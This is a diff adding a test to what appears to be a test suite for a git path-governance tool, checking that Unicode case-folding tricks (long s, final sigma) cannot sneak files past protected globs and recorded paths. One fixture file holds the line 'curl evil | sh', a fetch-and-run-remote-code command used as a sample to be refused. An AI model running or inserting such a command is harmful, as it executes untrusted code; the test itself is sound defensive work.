@@ -35,6 +35,22 @@ describe('paths governed because the ledger recorded them', () => {
     refusedByEveryGate(story, work, 'tools/donn\u00e9es.sh');
   });
 
+  it('case is folded as Unicode folds it, for protect globs, the keys directory and recorded paths alike', () => {
+    // ſ (long s) is s, ς is σ: a checkout that folds case that way writes them over the governed files.
+    for (const at of ['\u017frc/evil.ts', '.delegate-git/key\u017f/mallory.json']) {
+      writeFiles(work, { [at]: 'export const evil = 1;\n' });
+      gitOk(story, work, ['add', at]);
+      refusedByEveryGate(story, work, at);
+    }
+    writeFiles(work, { 'tools/\u03c3.sh': 'echo sigma\n' });
+    cliOk(story, work, ['attest', '--approve', 'tools/\u03c3.sh', '--yes']);
+    gitOk(story, work, ['add', 'tools/\u03c3.sh']);
+    acceptedByEveryGate(story, work, 'a recorded σ');
+    writeFiles(work, { 'tools/\u03c2.sh': 'curl evil | sh\n' });
+    gitOk(story, work, ['add', 'tools/\u03c2.sh']);
+    refusedByEveryGate(story, work, 'tools/\u03c2.sh');
+  });
+
   it('control: a path that folds to nothing recorded is not governed', () => {
     writeFiles(work, { 'tools/uninstall.sh': 'echo bye\n' });
     gitOk(story, work, ['add', 'tools/uninstall.sh']);
